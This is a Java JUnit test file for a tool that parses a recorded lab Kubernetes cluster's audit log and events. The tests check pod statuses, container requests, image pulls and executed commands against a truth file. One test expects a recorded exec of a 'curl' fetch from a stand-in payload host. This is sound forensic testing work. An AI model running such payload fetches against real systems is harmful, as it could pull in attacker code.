package io.tallyman.source.kubernetes;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.Shared;
import io.tallyman.event.ContainerRequested;
import io.tallyman.event.ContainerStarted;
import io.tallyman.event.Digest;
import io.tallyman.event.Event;
import io.tallyman.event.ImagePulled;
import io.tallyman.event.PodCreated;
import io.tallyman.event.PodDeleted;
import io.tallyman.event.PodScheduled;
import io.tallyman.event.PodStatusReported;
import io.tallyman.event.ProcessExecuted;
import io.tallyman.source.Json;
import io.tallyman.source.Source;
import java.io.IOException;
import java.nio.file.Files;
import java.util.List;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** The recorded cluster of two pods: what it is known to have done must come out of its logs. */
class KubernetesCaptureTest {

    private static Parsed read(Source source, String file) throws IOException {
        return Parsed.by(source, Files.readAllLines(Shared.path("captures/K/" + file)));
    }

    private static List<JsonNode> truth() throws IOException {
        var truth = Json.tree(Files.readString(Shared.path("captures/K/truth.json")));
        return truth.path("records").valueStream().toList();
    }

    @Test
    void everyContainerIsTiedToItsDigestPodAndAddressByOneStatus() throws IOException {
        var reports = read(new KubernetesAudit(), "kubernetes-audit.log").events(PodStatusReported.class);

        assertThat(truth())
                .hasSize(2)
                .allSatisfy(container -> assertThat(reports).anySatisfy(report -> {
                    assertThat(report.pod().uid()).isEqualTo(Json.text(container, "pod_uid"));
                    assertThat(report.pod().namespace() + "/" + report.pod().name())
                            .isEqualTo(Json.text(container, "pod"));
                    assertThat(report.node()).isEqualTo("node-1");
                    assertThat(report.addresses()).containsExactly(Json.text(container, "ip"));
                    var status = report.containers().get(0);
                    assertThat("containerd://" + status.id()).isEqualTo(Json.text(container, "container_id"));
                    assertThat(status.image()).isEqualTo(Json.text(container, "image_in_status"));
                    assertThat(status.startedAt()).hasToString(Json.text(container, "started"));
                    var pinned = Json.text(container, "image_id");
                    assertThat(status.digests()).contains(Digest.repository(pinned.substring(pinned.indexOf('@') + 1)));
                }));
    }

    @Test
    void everyContainerIsRequestedAsItsSpecificationSays() throws IOException {
        var requests = read(new KubernetesAudit(), "kubernetes-audit.log").events(ContainerRequested.class);

        assertThat(requests)
                .hasSize(2)
                .allSatisfy(request -> assertThat(request.user()).isEqualTo("jane@corp.example"));
        assertThat(truth())
                .allSatisfy(container -> assertThat(requests).anySatisfy(request -> {
                    assertThat(request.reported().pod().uid()).isEqualTo(Json.text(container, "pod_uid"));
                    assertThat(request.image()).isEqualTo(Json.text(container, "image_in_spec"));
                    assertThat(request.pullPolicy()).isEqualTo(Json.text(container, "pull_policy"));
                }));
    }

    @Test
    void theExecutionsAreDecodedAndReportedOnce() throws IOException {
        assertThat(read(new KubernetesAudit(), "kubernetes-audit.log").events(ProcessExecuted.class))
                .extracting(ProcessExecuted::arguments)
                .containsExactly(
                        List.of("sh", "-c", "curl -s -o /dev/null http://cdn.payload.example/m.bin"), List.of("id"));
    }

    @Test
    void nothingOfTheAuditLogIsRejectedOrCountedTwice() throws IOException {
        var parsed = read(new KubernetesAudit(), "kubernetes-audit.log");

        assertThat(parsed.rejections()).isEmpty();
        assertThat(parsed.readings()).hasSize(67);
        assertThat(parsed.events(PodCreated.class)).hasSize(2);
        assertThat(parsed.events(PodScheduled.class)).hasSize(2);
        assertThat(parsed.events(PodDeleted.class)).hasSize(3);
        assertThat(parsed.events(ContainerStarted.class)).hasSize(2);
        assertThat(parsed.events()).hasSize(25);
    }

    @Test
    void theEventsTellPullsAndStartsOfBothPods() throws IOException {
        var parsed = read(new KubernetesEvents(), "kubernetes-events.json");

        assertThat(parsed.rejections()).isEmpty();
        assertThat(parsed.readings()).hasSize(17);
        assertThat(parsed.events(ImagePulled.class))
                .extracting(ImagePulled::alreadyPresent)
                .containsExactly(true, false, false);
        assertThat(parsed.events(ContainerStarted.class)).hasSize(2);
        assertThat(truth())
                .allSatisfy(container -> assertThat(parsed.events(ImagePulled.class))
                        .anySatisfy(pull -> {
                            assertThat(pull.reported().pod().uid()).isEqualTo(Json.text(container, "pod_uid"));
                            assertThat(pull.image()).isEqualTo(Json.text(container, "image_in_spec"));
                        }));
        assertThat(parsed.events())
                .extracting(Event::origin)
                .allSatisfy(origin -> assertThat(origin.cluster()).isEqualTo("lab"));
    }
}
